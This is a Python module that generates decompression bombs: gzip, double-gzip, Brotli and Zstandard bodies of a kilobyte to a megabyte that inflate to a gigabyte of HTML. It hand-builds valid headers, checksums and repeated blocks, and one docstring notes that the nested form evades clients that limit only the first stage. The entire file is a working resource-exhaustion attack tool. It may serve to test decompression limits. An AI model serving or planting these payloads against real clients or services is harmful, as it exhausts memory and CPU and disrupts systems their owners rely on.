"""Bodies of a kilobyte to a megabyte that decompress to a gigabyte of HTML, made in little memory."""

from __future__ import annotations

import struct
import zlib
from functools import cache

GIB = 1 << 30
MIB = 1 << 20
HEAD = b"<!doctype html><html lang=fa><title>bomb</title><body>"
TURN = b"<p>a"


def _deflated() -> tuple[bytes, bytes, bytes, int]:
    """The first MiB of the page and every other one, each a deflate block that stands alone; the end; the CRC."""
    first = (HEAD + b"\n" * (-len(HEAD) % len(TURN)) + TURN * (MIB // len(TURN)))[:MIB]
    other = TURN * (MIB // len(TURN))
    blocks = []
    for plain in (first, other):
        squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
        blocks.append(squeeze.compress(plain) + squeeze.flush(zlib.Z_FULL_FLUSH))
    crc = zlib.crc32(first)
    for _turn in range(GIB // MIB - 1):
        crc = zlib.crc32(other, crc)
    end = zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    return blocks[0], blocks[1], end, crc


@cache
def gzip_bomb() -> bytes:
    """About 1 MB that is 1 GiB of HTML; whole, with a right checksum and length."""
    first, other, end, crc = _deflated()
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    return header + first + other * (GIB // MIB - 1) + end + struct.pack("<II", crc, GIB % (1 << 32))


@cache
def nested_bomb() -> bytes:
    """The same once more in gzip: some kilobytes; who limits only the first stage sees a harmless megabyte."""
    squeeze = zlib.compressobj(9, zlib.DEFLATED, 31)
    return squeeze.compress(gzip_bomb()) + squeeze.flush()


class _Bits:
    """A stream of bits, the lowest first, as Brotli wants it."""

    def __init__(self) -> None:
        self.value = 0
        self.count = 0

    def put(self, value: int, width: int) -> None:
        """Append a number of so many bits."""
        self.value |= value << self.count
        self.count += width

    def align(self) -> None:
        """Go on at the next whole byte."""
        self.count = (self.count + 7) // 8 * 8

    def bytes(self) -> bytes:
        """Everything so far."""
        return self.value.to_bytes((self.count + 7) // 8, "little")


@cache
def brotli_bomb() -> bytes:
    """Under 1 kB that is 1 GiB of HTML: sixty-four meta-blocks (RFC 7932), each one copy of 16 MiB.

    Every copy reaches back four bytes, which is what the ring of last distances begins with.
    """
    start = HEAD + TURN
    bits = _Bits()
    bits.put(0, 1)  # WBITS 16
    bits.put(0, 1)  # not the last
    bits.put(0, 2)  # four nibbles of length
    bits.put(len(start) - 1, 16)
    bits.put(1, 1)  # uncompressed
    bits.align()
    bits.put(int.from_bytes(start, "little"), 8 * len(start))
    block = 1 << 24
    left = GIB - len(start)
    while left:
        size = min(block, left)
        left -= size
        bits.put(0, 1)  # not the last
        bits.put(2, 2)  # six nibbles of length
        bits.put(size - 1, 24)
        bits.put(0, 1)  # compressed
        bits.put(0, 3)  # one block type of each of the three kinds
        bits.put(0, 2 + 4)  # NPOSTFIX, NDIRECT
        bits.put(0, 2)  # context mode
        bits.put(0, 2)  # one tree of literals, one of distances
        for symbol, width in ((0, 8), (391, 10), (0, 6)):  # 391: insert nothing, copy 2118 and more
            bits.put(1, 2)  # a simple prefix code
            bits.put(0, 2)  # of one symbol
            bits.put(symbol, width)
        bits.put(size - 2118, 24)
    bits.put(3, 2)  # the last, and empty
    return bits.bytes()


@cache
def zstd_bomb() -> bytes:
    """32 kB that is 1 GiB: a frame (RFC 8878) of blocks that each repeat one byte 128 Ki times."""
    most = 1 << 17
    out = [b"\x28\xb5\x2f\xfd", b"\x00", b"\x38"]  # no size told, a window of 128 KiB
    out += [(len(HEAD) << 3).to_bytes(3, "little"), HEAD]
    left = GIB - len(HEAD)
    while left:
        size = min(most, left)
        left -= size
        out += [(size << 3 | 1 << 1 | (not left)).to_bytes(3, "little"), b"<"]
    return b"".join(out)
